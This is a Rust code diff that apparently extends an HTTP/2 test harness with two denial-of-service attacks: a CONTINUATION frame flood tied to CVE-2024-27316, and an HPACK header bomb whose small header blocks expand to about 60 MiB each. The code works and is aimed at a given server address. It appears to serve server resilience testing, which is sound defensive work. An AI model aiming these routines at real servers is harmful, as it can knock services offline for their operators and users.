@@ -11,6 +11,7 @@ const HEADERS: u8 = 1;
 const RST_STREAM: u8 = 3;
 const SETTINGS: u8 = 4;
 const GOAWAY: u8 = 7;
+const CONTINUATION: u8 = 9;
 const END_STREAM: u8 = 1;
 const END_HEADERS: u8 = 4;
 
@@ -73,6 +74,11 @@ async fn connect(address: SocketAddr) -> TcpStream {
 pub async fn ask(address: SocketAddr, fields: &[(String, String)]) -> Outcome {
     let mut stream = connect(address).await;
     let _ = stream.write_all(&frame(HEADERS, END_STREAM | END_HEADERS, 1, &block(fields))).await;
+    outcome(&mut stream).await
+}
+
+/// What comes of the next request that has an answer.
+async fn outcome(stream: &mut TcpStream) -> Outcome {
     super::within(async {
         loop {
             let mut head = [0; 9];
@@ -109,4 +115,45 @@ pub async fn flood(address: SocketAddr, count: u32, path: &str, authority: &str)
         }
     }
     super::within(async { while matches!(stream.read(&mut [0; 4096]).await, Ok(1..)) {} }).await;
+}
+
+/// Sends a header block that is never complete, `count` frames of 16 KiB (CVE-2024-27316), until the connection ends.
+pub async fn continuation_flood(address: SocketAddr, count: usize) {
+    let mut stream = connect(address).await;
+    // Literal fields that are never indexed, each with a name of its own length.
+    let field = [vec![0], string(b"x-flood"), string(&[b'a'; 16_000])].concat();
+    let mut sent = stream.write_all(&frame(HEADERS, END_STREAM, 1, &field)).await;
+    for _ in 0..count {
+        if sent.is_err() {
+            break;
+        }
+        sent = stream.write_all(&frame(CONTINUATION, 0, 1, &field)).await;
+    }
+    super::within(async { while matches!(stream.read(&mut [0; 4096]).await, Ok(1..)) {} }).await;
+}
+
+/// Sends `streams` requests whose header blocks of some 15 KiB unpack to 60 MiB each: a field is put into the table of
+/// HPACK once and named by one byte thousands of times.
+pub async fn header_bomb(address: SocketAddr, streams: u32, path: &str, authority: &str) -> Vec<Outcome> {
+    let mut stream = connect(address).await;
+    let fields = [(":method", "GET"), (":scheme", "http"), (":authority", authority), (":path", path)];
+    // With incremental indexing (RFC 7541 section 6.2.1); the newest field of the table is number 62.
+    let large = [vec![0x40], string(b"x-bomb"), string(&[b'a'; 4000])].concat();
+    let first = [block(&fields), large, vec![0x80 | 62; 12_000]].concat();
+    let later = [block(&fields), vec![0x80 | 62; 15_000]].concat();
+    for index in 0..streams {
+        let block = if index == 0 { &first } else { &later };
+        if stream.write_all(&frame(HEADERS, END_STREAM | END_HEADERS, 2 * index + 1, block)).await.is_err() {
+            break;
+        }
+    }
+    let mut outcomes = Vec::new();
+    while outcomes.len() < streams as usize {
+        let outcome = outcome(&mut stream).await;
+        outcomes.push(outcome);
+        if outcome == Outcome::Closed {
+            break;
+        }
+    }
+    outcomes
 }
